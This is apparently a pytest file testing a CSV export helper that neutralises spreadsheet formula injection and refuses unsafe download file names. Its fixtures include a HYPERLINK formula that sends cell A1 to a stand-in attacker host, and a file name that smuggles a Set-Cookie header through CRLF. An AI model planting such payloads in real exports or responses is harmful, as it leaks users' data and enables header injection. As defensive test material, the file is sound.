"""Every CSV export goes through oms.common.export, which writes formula-like text as text."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from oms.common.export import csv_response, safe_cell

OMS = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@x", "\tX", "\rX"]


def _read(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_written_as_text(text):
    rows = _read(csv_response("x.csv", ["name"], [[text]]))
    assert rows[1] == ["'" + text]


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    response = csv_response(
        "x.csv",
        ["amount", "units", "name", "none"],
        [[Decimal("-2.00"), -3, "Green tea – 50 g", None], [Decimal("50094.60"), 0, "a=b", ""]],
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert _read(response)[1:] == [["-2.00", "-3", "Green tea – 50 g", ""], ["50094.60", "0", "a=b", ""]]


def test_header_cells_are_neutralised_too_and_floats_refused():
    assert safe_cell("=1+1") == "'=1+1"
    with pytest.raises(TypeError):
        safe_cell(0.1)


def test_unsafe_file_name_is_refused():
    with pytest.raises(ValueError):
        csv_response('x".csv\r\nSet-Cookie: a=b', ["a"], [])


def test_only_the_export_module_writes_csv():
    """A new export that builds its own csv.writer would skip the neutralising: one writer for the project."""
    offenders = []
    for path in OMS.rglob("*.py"):
        if "tests" in path.parts or path == OMS / "common" / "export.py":
            continue
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            imported = []
            if isinstance(node, ast.Import):
                imported = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                imported = [node.module or ""]
            if any(name == "csv" or name.startswith("csv.") for name in imported):
                offenders.append(f"{path.relative_to(OMS.parent)}:{node.lineno}")
        if "text/csv" in path.read_text():
            offenders.append(f"{path.relative_to(OMS.parent)}: text/csv")
    assert offenders == []
